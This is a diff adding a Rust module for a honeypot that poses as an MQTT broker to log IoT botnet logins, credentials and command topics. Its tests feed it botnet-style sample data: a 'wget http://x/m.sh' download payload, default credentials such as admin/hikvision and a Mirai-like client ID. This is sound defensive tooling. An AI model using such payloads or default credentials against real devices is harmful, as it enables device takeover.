@@ -0,0 +1,796 @@
+//! MQTT Interaction Handler
+//!
+//! Broker-Attrappe für MQTT 3.1/3.1.1/5.0: IoT-Botnets melden sich mit
+//! Default-Credentials an und abonnieren/publizieren auf Command-Topics.
+//! CONNECT-Credentials landen im `CredentialStore`, Topics werden als Intel
+//! geloggt.
+
+use super::limits::DEFAULT_MAX_MQTT_PACKET;
+use crate::credentials::CredentialStore;
+use std::collections::VecDeque;
+use std::fmt;
+use std::net::IpAddr;
+use std::sync::Arc;
+
+/// Remaining Length belegt max. 4 Bytes (Spec: 268.435.455)
+const MAX_REMAINING_LENGTH_BYTES: usize = 4;
+/// Ab MQTT 5.0 tragen Pakete Properties
+const PROTOCOL_LEVEL_V5: u8 = 5;
+/// Max. Anzahl erfasster Topic-Filter pro Session
+const MAX_SUBSCRIPTIONS: usize = 256;
+/// Max. Anzahl vorgehaltener (jüngster) PUBLISH-Nachrichten pro Session
+const MAX_RECENT_PUBLICATIONS: usize = 64;
+/// Max. erfasste Payload-Größe einer PUBLISH-Nachricht (Bytes)
+const MAX_PUBLISH_PAYLOAD_BYTES: usize = 4096;
+
+/// Control-Packet-Typ (obere 4 Bit des ersten Bytes)
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum MqttPacketType {
+    Connect,
+    Connack,
+    Publish,
+    Puback,
+    Pubrec,
+    Pubrel,
+    Pubcomp,
+    Subscribe,
+    Suback,
+    Unsubscribe,
+    Unsuback,
+    Pingreq,
+    Pingresp,
+    Disconnect,
+    Auth,
+}
+
+impl MqttPacketType {
+    fn from_byte(first: u8) -> Option<Self> {
+        match first >> 4 {
+            1 => Some(MqttPacketType::Connect),
+            2 => Some(MqttPacketType::Connack),
+            3 => Some(MqttPacketType::Publish),
+            4 => Some(MqttPacketType::Puback),
+            5 => Some(MqttPacketType::Pubrec),
+            6 => Some(MqttPacketType::Pubrel),
+            7 => Some(MqttPacketType::Pubcomp),
+            8 => Some(MqttPacketType::Subscribe),
+            9 => Some(MqttPacketType::Suback),
+            10 => Some(MqttPacketType::Unsubscribe),
+            11 => Some(MqttPacketType::Unsuback),
+            12 => Some(MqttPacketType::Pingreq),
+            13 => Some(MqttPacketType::Pingresp),
+            14 => Some(MqttPacketType::Disconnect),
+            15 => Some(MqttPacketType::Auth),
+            _ => None,
+        }
+    }
+}
+
+/// MQTT-Paket (Wire-Framing)
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MqttPacket {
+    pub packet_type: MqttPacketType,
+    /// Untere 4 Bit des ersten Bytes (bei PUBLISH: DUP/QoS/Retain)
+    pub flags: u8,
+    /// Variable Header + Payload
+    pub body: Vec<u8>,
+}
+
+/// Verletzung des MQTT-Protokolls
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum MqttProtocolError {
+    /// Fixed Header unvollständig
+    TruncatedHeader { available: usize },
+    /// Remaining Length länger als 4 Bytes
+    MalformedRemainingLength,
+    /// Deklarierte Länge über dem Limit
+    PacketTooLarge { declared: usize, max: usize },
+    /// Deklarierte Länge größer als die vorhandenen Bytes
+    LengthMismatch { declared: usize, available: usize },
+    /// Reservierter Packet-Typ 0
+    UnknownPacketType(u8),
+    /// Feld im Paket fehlt oder ist ungültig
+    Malformed(&'static str),
+    /// Paket vor CONNECT
+    NotConnected,
+}
+
+impl fmt::Display for MqttProtocolError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            MqttProtocolError::TruncatedHeader { available } => {
+                write!(f, "truncated fixed header ({} bytes)", available)
+            }
+            MqttProtocolError::MalformedRemainingLength => {
+                write!(f, "remaining length exceeds {} bytes", MAX_REMAINING_LENGTH_BYTES)
+            }
+            MqttProtocolError::PacketTooLarge { declared, max } => {
+                write!(f, "declared packet length {} exceeds limit {}", declared, max)
+            }
+            MqttProtocolError::LengthMismatch {
+                declared,
+                available,
+            } => write!(
+                f,
+                "declared packet length {} but only {} bytes available",
+                declared, available
+            ),
+            MqttProtocolError::UnknownPacketType(first) => {
+                write!(f, "unknown packet type 0x{:02x}", first)
+            }
+            MqttProtocolError::Malformed(field) => write!(f, "malformed {}", field),
+            MqttProtocolError::NotConnected => write!(f, "packet before CONNECT"),
+        }
+    }
+}
+
+impl std::error::Error for MqttProtocolError {}
+
+impl MqttProtocolError {
+    /// Paket nur unvollständig (weitere Bytes abwarten)?
+    pub fn is_incomplete(&self) -> bool {
+        matches!(
+            self,
+            MqttProtocolError::TruncatedHeader { .. } | MqttProtocolError::LengthMismatch { .. }
+        )
+    }
+}
+
+/// Remaining Length kodieren (7 Bit pro Byte, MSB = weiteres Byte folgt)
+pub fn encode_remaining_length(mut len: usize) -> Vec<u8> {
+    let mut encoded = Vec::with_capacity(MAX_REMAINING_LENGTH_BYTES);
+    loop {
+        let mut byte = (len % 128) as u8;
+        len /= 128;
+        if len > 0 {
+            byte |= 0x80;
+        }
+        encoded.push(byte);
+        if len == 0 {
+            return encoded;
+        }
+    }
+}
+
+/// Remaining Length dekodieren, liefert Wert + belegte Bytes
+pub fn decode_remaining_length(buf: &[u8]) -> Result<(usize, usize), MqttProtocolError> {
+    let mut value = 0;
+    for (i, byte) in buf.iter().take(MAX_REMAINING_LENGTH_BYTES).enumerate() {
+        value |= ((byte & 0x7f) as usize) << (7 * i);
+        if byte & 0x80 == 0 {
+            return Ok((value, i + 1));
+        }
+    }
+
+    if buf.len() >= MAX_REMAINING_LENGTH_BYTES {
+        Err(MqttProtocolError::MalformedRemainingLength)
+    } else {
+        Err(MqttProtocolError::TruncatedHeader { available: buf.len() })
+    }
+}
+
+/// Felder eines CONNECT-Pakets
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MqttConnect {
+    /// "MQTT" (3.1.1/5.0) oder "MQIsdp" (3.1)
+    pub protocol_name: String,
+    /// 3 = 3.1, 4 = 3.1.1, 5 = 5.0
+    pub protocol_level: u8,
+    pub clean_session: bool,
+    pub keep_alive: u16,
+    pub client_id: String,
+    pub will_topic: Option<String>,
+    pub username: Option<String>,
+    pub password: Option<String>,
+}
+
+impl MqttConnect {
+    /// CONNECT-Body (Variable Header + Payload) parsen
+    pub fn parse(body: &[u8]) -> Result<Self, MqttProtocolError> {
+        let mut reader = Reader::new(body);
+        let protocol_name = reader.string("protocol name")?;
+        let protocol_level = reader.u8("protocol level")?;
+        let flags = reader.u8("connect flags")?;
+        let keep_alive = reader.u16("keep alive")?;
+        if protocol_level >= PROTOCOL_LEVEL_V5 {
+            reader.skip_properties()?;
+        }
+
+        let client_id = reader.string("client id")?;
+        let will_topic = if flags & 0x04 != 0 {
+            if protocol_level >= PROTOCOL_LEVEL_V5 {
+                reader.skip_properties()?;
+            }
+            let topic = reader.string("will topic")?;
+            reader.binary("will message")?;
+            Some(topic)
+        } else {
+            None
+        };
+        let username = (flags & 0x80 != 0)
+            .then(|| reader.string("username"))
+            .transpose()?;
+        let password = (flags & 0x40 != 0)
+            .then(|| reader.binary("password"))
+            .transpose()?
+            .map(|password| String::from_utf8_lossy(&password).into_owned());
+
+        Ok(Self {
+            protocol_name,
+            protocol_level,
+            clean_session: flags & 0x02 != 0,
+            keep_alive,
+            client_id,
+            will_topic,
+            username,
+            password,
+        })
+    }
+}
+
+/// Empfangene PUBLISH-Nachricht
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MqttPublish {
+    pub topic: String,
+    pub qos: u8,
+    pub retain: bool,
+    /// Payload, auf `MAX_PUBLISH_PAYLOAD_BYTES` gekürzt
+    pub payload: Vec<u8>,
+    /// Ursprüngliche Payload-Größe (Bytes)
+    pub payload_len: usize,
+}
+
+/// MQTT Interaction Handler
+pub struct MqttInteractionHandler {
+    session_id: String,
+    connect: Option<MqttConnect>,
+    subscriptions: Vec<String>,
+    /// Alle SUBSCRIBE-Topics, auch die wegen `MAX_SUBSCRIPTIONS` nicht erfassten
+    subscription_count: usize,
+    publications: VecDeque<MqttPublish>,
+    /// Alle PUBLISH-Nachrichten, auch die aus `publications` verdrängten
+    publication_count: usize,
+    packet_count: usize,
+    credential_store: Option<(Arc<CredentialStore>, IpAddr)>,
+    max_packet_len: usize,
+}
+
+impl MqttInteractionHandler {
+    pub fn new(session_id: String) -> Self {
+        Self {
+            session_id,
+            connect: None,
+            subscriptions: Vec::new(),
+            subscription_count: 0,
+            publications: VecDeque::new(),
+            publication_count: 0,
+            packet_count: 0,
+            credential_store: None,
+            max_packet_len: DEFAULT_MAX_MQTT_PACKET,
+        }
+    }
+
+    /// Erfasste Credentials zusätzlich in geteilten Store schreiben
+    pub fn with_credential_store(mut self, store: Arc<CredentialStore>, source_ip: IpAddr) -> Self {
+        self.credential_store = Some((store, source_ip));
+        self
+    }
+
+    /// Mit max. Paketlänge (Remaining Length in Bytes)
+    pub fn with_max_packet_len(mut self, max_packet_len: usize) -> Self {
+        self.max_packet_len = max_packet_len;
+        self
+    }
+
+    /// Client-Paket validieren und parsen, liefert Paket + verbrauchte Bytes
+    ///
+    /// Wie bei MySQL wird der deklarierten Länge nie vertraut: sie wird gegen
+    /// Limit und vorhandene Bytes geprüft, bevor etwas allokiert wird.
+    /// Unvollständige Pakete werden nicht geloggt, da Streams stückweise lesen.
+    pub fn parse_packet(&self, buf: &[u8]) -> Result<(MqttPacket, usize), MqttProtocolError> {
+        let result = self.validate_packet(buf);
+        if let Some(e) = result.as_ref().err().filter(|e| !e.is_incomplete()) {
+            tracing::warn!(
+                event = "mqtt_protocol_error",
+                "🚨 Malformed MQTT packet: {} (Session: {})",
+                e,
+                self.session_id
+            );
+        }
+        result
+    }
+
+    fn validate_packet(&self, buf: &[u8]) -> Result<(MqttPacket, usize), MqttProtocolError> {
+        let first = *buf
+            .first()
+            .ok_or(MqttProtocolError::TruncatedHeader { available: 0 })?;
+        let packet_type =
+            MqttPacketType::from_byte(first).ok_or(MqttProtocolError::UnknownPacketType(first))?;
+
+        let (declared, length_bytes) = decode_remaining_length(&buf[1..]).map_err(|e| match e {
+            MqttProtocolError::TruncatedHeader { .. } => {
+                MqttProtocolError::TruncatedHeader { available: buf.len() }
+            }
+            e => e,
+        })?;
+        if declared > self.max_packet_len {
+            return Err(MqttProtocolError::PacketTooLarge {
+                declared,
+                max: self.max_packet_len,
+            });
+        }
+
+        let start = 1 + length_bytes;
+        let available = buf.len() - start;
+        if declared > available {
+            return Err(MqttProtocolError::LengthMismatch { declared, available });
+        }
+
+        let end = start + declared;
+        Ok((
+            MqttPacket {
+                packet_type,
+                flags: first & 0x0f,
+                body: buf[start..end].to_vec(),
+            },
+            end,
+        ))
+    }
+
+    /// Paket parsen und beantworten, liefert Antwort + verbrauchte Bytes
+    pub fn handle_bytes(
+        &mut self,
+        buf: &[u8],
+    ) -> Result<(Option<Vec<u8>>, usize), MqttProtocolError> {
+        let (packet, consumed) = self.parse_packet(buf)?;
+        let response = self.handle_packet(&packet)?;
+        Ok((response, consumed))
+    }
+
+    /// Paket beantworten (None = keine Antwort vorgesehen)
+    pub fn handle_packet(
+        &mut self,
+        packet: &MqttPacket,
+    ) -> Result<Option<Vec<u8>>, MqttProtocolError> {
+        self.packet_count += 1;
+
+        if packet.packet_type == MqttPacketType::Connect {
+            return self.handle_connect(&packet.body).map(Some);
+        }
+        if self.connect.is_none() {
+            return Err(MqttProtocolError::NotConnected);
+        }
+
+        match packet.packet_type {
+            MqttPacketType::Subscribe => self.handle_subscribe(&packet.body).map(Some),
+            MqttPacketType::Unsubscribe => self.handle_unsubscribe(&packet.body).map(Some),
+            MqttPacketType::Publish => self.handle_publish(packet.flags, &packet.body),
+            MqttPacketType::Pubrel => {
+                let packet_id = Reader::new(&packet.body).u16("packet id")?;
+                Ok(Some(encode_ack(0x70, packet_id)))
+            }
+            MqttPacketType::Pingreq => Ok(Some(encode_packet(0xd0, &[]))),
+            MqttPacketType::Disconnect => {
+                tracing::debug!("👋 MQTT DISCONNECT (Session: {})", self.session_id);
+                Ok(None)
+            }
+            other => {
+                tracing::debug!(
+                    "MQTT {:?} from client ignored (Session: {})",
+                    other,
+                    self.session_id
+                );
+                Ok(None)
+            }
+        }
+    }
+
+    fn handle_connect(&mut self, body: &[u8]) -> Result<Vec<u8>, MqttProtocolError> {
+        if self.connect.is_some() {
+            return Err(MqttProtocolError::Malformed("second CONNECT"));
+        }
+        let connect = MqttConnect::parse(body)?;
+
+        tracing::info!(
+            "🔑 MQTT CONNECT - Client: {}, User: {:?}, Protocol: {} v{} (Session: {})",
+            connect.client_id,
+            connect.username,
+            connect.protocol_name,
+            connect.protocol_level,
+            self.session_id
+        );
+
+        if connect.username.is_some() || connect.password.is_some() {
+            let username = connect.username.as_deref().unwrap_or_default();
+            let password = connect.password.as_deref().unwrap_or_default();
+            tracing::warn!("📝 Captured MQTT credentials: {}:{}", username, password);
+            if let Some((store, source_ip)) = &self.credential_store {
+                store.record(*source_ip, "MQTT", username, password);
+            }
+        }
+
+        // Session Present = 0, Return Code = 0 (immer akzeptieren)
+        let response = if connect.protocol_level >= PROTOCOL_LEVEL_V5 {
+            encode_packet(0x20, &[0x00, 0x00, 0x00])
+        } else {
+            encode_packet(0x20, &[0x00, 0x00])
+        };
+        self.connect = Some(connect);
+        Ok(response)
+    }
+
+    fn handle_subscribe(&mut self, body: &[u8]) -> Result<Vec<u8>, MqttProtocolError> {
+        let mut reader = Reader::new(body);
+        let packet_id = reader.u16("packet id")?;
+        if self.is_v5() {
+            reader.skip_properties()?;
+        }
+
+        let mut granted = Vec::new();
+        while !reader.is_empty() {
+            let topic = reader.string("topic filter")?;
+            let qos = reader.u8("subscription options")? & 0x03;
+            tracing::info!(
+                event = "mqtt_subscribe",
+                topic = %topic,
+                "📥 MQTT SUBSCRIBE: {} (QoS {}) (Session: {})",
+                topic,
+                qos,
+                self.session_id
+            );
+            // QoS 3 ist ungültig -> Failure (0x80)
+            granted.push(if qos > 2 { 0x80 } else { qos });
+            self.subscription_count += 1;
+            if self.subscriptions.len() < MAX_SUBSCRIPTIONS {
+                self.subscriptions.push(topic);
+            } else {
+                tracing::debug!(
+                    "MQTT subscription {} dropped (limit reached) (Session: {})",
+                    topic,
+                    self.session_id
+                );
+            }
+        }
+        if granted.is_empty() {
+            return Err(MqttProtocolError::Malformed("SUBSCRIBE without topics"));
+        }
+
+        let mut response = packet_id.to_be_bytes().to_vec();
+        if self.is_v5() {
+            response.push(0x00);
+        }
+        response.extend(granted);
+        Ok(encode_packet(0x90, &response))
+    }
+
+    fn handle_unsubscribe(&mut self, body: &[u8]) -> Result<Vec<u8>, MqttProtocolError> {
+        let mut reader = Reader::new(body);
+        let packet_id = reader.u16("packet id")?;
+        if self.is_v5() {
+            reader.skip_properties()?;
+        }
+
+        let mut topics = 0;
+        while !reader.is_empty() {
+            let topic = reader.string("topic filter")?;
+            tracing::debug!("MQTT UNSUBSCRIBE: {} (Session: {})", topic, self.session_id);
+            topics += 1;
+        }
+
+        if !self.is_v5() {
+            return Ok(encode_ack(0xb0, packet_id));
+        }
+        // MQTT 5.0: Properties + ein Reason Code (Success) pro Topic
+        let mut response = packet_id.to_be_bytes().to_vec();
+        response.push(0x00);
+        response.extend(vec![0x00; topics]);
+        Ok(encode_packet(0xb0, &response))
+    }
+
+    fn handle_publish(
+        &mut self,
+        flags: u8,
+        body: &[u8],
+    ) -> Result<Option<Vec<u8>>, MqttProtocolError> {
+        let qos = (flags >> 1) & 0x03;
+        if qos > 2 {
+            return Err(MqttProtocolError::Malformed("PUBLISH QoS"));
+        }
+
+        let mut reader = Reader::new(body);
+        let topic = reader.string("topic name")?;
+        let packet_id = if qos > 0 {
+            Some(reader.u16("packet id")?)
+        } else {
+            None
+        };
+        if self.is_v5() {
+            reader.skip_properties()?;
+        }
+        let payload = reader.rest();
+
+        tracing::info!(
+            event = "mqtt_publish",
+            topic = %topic,
+            "📤 MQTT PUBLISH: {} ({} bytes, QoS {}) (Session: {})",
+            topic,
+            payload.len(),
+            qos,
+            self.session_id
+        );
+
+        self.publication_count += 1;
+        if self.publications.len() >= MAX_RECENT_PUBLICATIONS {
+            self.publications.pop_front();
+        }
+        self.publications.push_back(MqttPublish {
+            topic,
+            qos,
+            retain: flags & 0x01 != 0,
+            payload: payload[..payload.len().min(MAX_PUBLISH_PAYLOAD_BYTES)].to_vec(),
+            payload_len: payload.len(),
+        });
+
+        // QoS 1 -> PUBACK, QoS 2 -> PUBREC
+        Ok(packet_id.map(|packet_id| {
+            let first = if qos == 1 { 0x40 } else { 0x50 };
+            encode_ack(first, packet_id)
+        }))
+    }
+
+    fn is_v5(&self) -> bool {
+        self.connect
+            .as_ref()
+            .is_some_and(|connect| connect.protocol_level >= PROTOCOL_LEVEL_V5)
+    }
+
+    /// Hat der Client ein CONNECT geschickt?
+    pub fn is_connected(&self) -> bool {
+        self.connect.is_some()
+    }
+
+    /// Geparstes CONNECT (Client-ID, Credentials, ...)
+    pub fn connect_info(&self) -> Option<&MqttConnect> {
+        self.connect.as_ref()
+    }
+
+    /// Abonnierte Topic-Filter in Reihenfolge
+    ///
+    /// Pro Session werden höchstens `MAX_SUBSCRIPTIONS` (256) erfasst;
+    /// `get_stats().subscriptions` zählt alle.
+    pub fn subscriptions(&self) -> &[String] {
+        &self.subscriptions
+    }
+
+    /// Die jüngsten PUBLISH-Nachrichten in Reihenfolge
+    ///
+    /// Vorgehalten werden höchstens `MAX_RECENT_PUBLICATIONS` (64) mit je
+    /// max. `MAX_PUBLISH_PAYLOAD_BYTES` (4 KiB) Payload;
+    /// `get_stats().publications` zählt alle.
+    pub fn publications(&self) -> &VecDeque<MqttPublish> {
+        &self.publications
+    }
+
+    /// Get statistics
+    pub fn get_stats(&self) -> MqttStats {
+        MqttStats {
+            packet_count: self.packet_count,
+            client_id: self.connect.as_ref().map(|c| c.client_id.clone()),
+            username: self.connect.as_ref().and_then(|c| c.username.clone()),
+            subscriptions: self.subscription_count,
+            publications: self.publication_count,
+        }
+    }
+}
+
+#[derive(Debug, Clone)]
+pub struct MqttStats {
+    pub packet_count: usize,
+    pub client_id: Option<String>,
+    pub username: Option<String>,
+    pub subscriptions: usize,
+    pub publications: usize,
+}
+
+/// Paket aus erstem Byte und Body zusammensetzen
+fn encode_packet(first: u8, body: &[u8]) -> Vec<u8> {
+    let mut packet = vec![first];
+    packet.extend(encode_remaining_length(body.len()));
+    packet.extend_from_slice(body);
+    packet
+}
+
+/// Ack-Paket, das nur die Packet-ID trägt
+fn encode_ack(first: u8, packet_id: u16) -> Vec<u8> {
+    encode_packet(first, &packet_id.to_be_bytes())
+}
+
+/// Cursor über einen Paket-Body
+struct Reader<'a> {
+    buf: &'a [u8],
+    pos: usize,
+}
+
+impl<'a> Reader<'a> {
+    fn new(buf: &'a [u8]) -> Self {
+        Self { buf, pos: 0 }
+    }
+
+    fn is_empty(&self) -> bool {
+        self.pos >= self.buf.len()
+    }
+
+    fn take(&mut self, n: usize, field: &'static str) -> Result<&'a [u8], MqttProtocolError> {
+        let end = self
+            .pos
+            .checked_add(n)
+            .filter(|&end| end <= self.buf.len())
+            .ok_or(MqttProtocolError::Malformed(field))?;
+        let bytes = &self.buf[self.pos..end];
+        self.pos = end;
+        Ok(bytes)
+    }
+
+    fn u8(&mut self, field: &'static str) -> Result<u8, MqttProtocolError> {
+        Ok(self.take(1, field)?[0])
+    }
+
+    fn u16(&mut self, field: &'static str) -> Result<u16, MqttProtocolError> {
+        let bytes = self.take(2, field)?;
+        Ok(u16::from_be_bytes([bytes[0], bytes[1]]))
+    }
+
+    /// Binärdaten mit 2-Byte Längenpräfix
+    fn binary(&mut self, field: &'static str) -> Result<Vec<u8>, MqttProtocolError> {
+        let len = self.u16(field)? as usize;
+        Ok(self.take(len, field)?.to_vec())
+    }
+
+    /// UTF-8 String mit 2-Byte Längenpräfix (ungültiges UTF-8 wird ersetzt)
+    fn string(&mut self, field: &'static str) -> Result<String, MqttProtocolError> {
+        let len = self.u16(field)? as usize;
+        Ok(String::from_utf8_lossy(self.take(len, field)?).into_owned())
+    }
+
+    /// MQTT 5.0 Properties überspringen (Variable Byte Integer + Daten)
+    fn skip_properties(&mut self) -> Result<(), MqttProtocolError> {
+        let (len, used) = decode_remaining_length(&self.buf[self.pos.min(self.buf.len())..])
+            .map_err(|_| MqttProtocolError::Malformed("properties length"))?;
+        self.pos += used;
+        self.take(len, "properties")?;
+        Ok(())
+    }
+
+    fn rest(&mut self) -> &'a [u8] {
+        let rest = &self.buf[self.pos.min(self.buf.len())..];
+        self.pos = self.buf.len();
+        rest
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn mqtt_string(s: &str) -> Vec<u8> {
+        let mut encoded = (s.len() as u16).to_be_bytes().to_vec();
+        encoded.extend_from_slice(s.as_bytes());
+        encoded
+    }
+
+    fn connect_packet(client_id: &str, username: &str, password: &str) -> Vec<u8> {
+        let mut body = mqtt_string("MQTT");
+        // Level 4 (3.1.1), Flags: Username + Password + Clean Session
+        body.extend_from_slice(&[0x04, 0xc2, 0x00, 0x3c]);
+        body.extend(mqtt_string(client_id));
+        body.extend(mqtt_string(username));
+        body.extend(mqtt_string(password));
+        encode_packet(0x10, &body)
+    }
+
+    #[test]
+    fn test_connect_captures_credentials() {
+        let store = Arc::new(CredentialStore::new());
+        let attacker: IpAddr = "203.0.113.7".parse().unwrap();
+        let mut handler = MqttInteractionHandler::new("test".to_string())
+            .with_credential_store(store.clone(), attacker);
+
+        // Client-ID > 127 Bytes erzwingt eine 2-Byte Remaining Length
+        let client_id = format!("mirai-{}", "x".repeat(150));
+        let packet = connect_packet(&client_id, "admin", "hikvision");
+        assert_eq!(packet[1] & 0x80, 0x80);
+        assert_eq!(decode_remaining_length(&packet[1..]).unwrap().1, 2);
+
+        let (response, consumed) = handler.handle_bytes(&packet).unwrap();
+        assert_eq!(consumed, packet.len());
+        assert_eq!(response, Some(vec![0x20, 0x02, 0x00, 0x00]));
+
+        let connect = handler.connect_info().unwrap();
+        assert_eq!(connect.client_id, client_id);
+        assert_eq!(connect.username.as_deref(), Some("admin"));
+        assert_eq!(connect.password.as_deref(), Some("hikvision"));
+        assert_eq!(connect.keep_alive, 60);
+
+        let records = store.records();
+        assert_eq!(records.len(), 1);
+        assert_eq!(records[0].username, "admin");
+        assert_eq!(records[0].password, "hikvision");
+        assert!(records[0].services.contains("MQTT"));
+
+        // Abgeschnittenes Paket wird abgewiesen statt gelesen
+        let mut fresh = MqttInteractionHandler::new("test".to_string());
+        assert!(matches!(
+            fresh.handle_bytes(&packet[..packet.len() - 1]),
+            Err(MqttProtocolError::LengthMismatch { .. })
+        ));
+        assert_eq!(
+            decode_remaining_length(&[0xff, 0xff, 0xff, 0xff, 0x01]),
+            Err(MqttProtocolError::MalformedRemainingLength)
+        );
+    }
+
+    #[test]
+    fn test_subscribe_is_logged_and_acknowledged() {
+        let mut handler = MqttInteractionHandler::new("test".to_string());
+        assert_eq!(
+            handler.handle_bytes(&encode_packet(0x82, &[0x00, 0x01])),
+            Err(MqttProtocolError::NotConnected)
+        );
+        handler
+            .handle_bytes(&connect_packet("bot", "guest", "guest"))
+            .unwrap();
+
+        let mut body = vec![0x00, 0x2a];
+        body.extend(mqtt_string("$SYS/#"));
+        body.push(0x01);
+        let (response, _) = handler.handle_bytes(&encode_packet(0x82, &body)).unwrap();
+
+        assert_eq!(response, Some(vec![0x90, 0x03, 0x00, 0x2a, 0x01]));
+        assert_eq!(handler.subscriptions(), ["$SYS/#"]);
+
+        let mut publish = mqtt_string("cmd/bots");
+        publish.extend_from_slice(b"wget http://x/m.sh");
+        handler.handle_bytes(&encode_packet(0x30, &publish)).unwrap();
+        assert_eq!(handler.publications()[0].topic, "cmd/bots");
+        assert_eq!(handler.get_stats().packet_count, 4);
+    }
+
+    #[test]
+    fn test_subscriptions_and_publications_are_capped() {
+        let mut handler = MqttInteractionHandler::new("test".to_string());
+        handler
+            .handle_bytes(&connect_packet("bot", "guest", "guest"))
+            .unwrap();
+
+        for i in 0..MAX_SUBSCRIPTIONS + 10 {
+            let mut body = vec![0x00, 0x01];
+            body.extend(mqtt_string(&format!("cmd/{}", i)));
+            body.push(0x00);
+            handler.handle_bytes(&encode_packet(0x82, &body)).unwrap();
+        }
+
+        let total = MAX_RECENT_PUBLICATIONS + 10;
+        for i in 0..total {
+            let mut publish = mqtt_string(&format!("exfil/{}", i));
+            publish.extend(vec![0x41; MAX_PUBLISH_PAYLOAD_BYTES * 2]);
+            handler.handle_bytes(&encode_packet(0x30, &publish)).unwrap();
+        }
+
+        assert_eq!(handler.subscriptions().len(), MAX_SUBSCRIPTIONS);
+        let publications = handler.publications();
+        assert_eq!(publications.len(), MAX_RECENT_PUBLICATIONS);
+        assert_eq!(publications[0].topic, "exfil/10");
+        assert_eq!(
+            publications.back().unwrap().topic,
+            format!("exfil/{}", total - 1)
+        );
+        assert!(publications.iter().all(|p| {
+            p.payload.len() == MAX_PUBLISH_PAYLOAD_BYTES
+                && p.payload_len == MAX_PUBLISH_PAYLOAD_BYTES * 2
+        }));
+
+        let stats = handler.get_stats();
+        assert_eq!(stats.subscriptions, MAX_SUBSCRIPTIONS + 10);
+        assert_eq!(stats.publications, total);
+    }
+}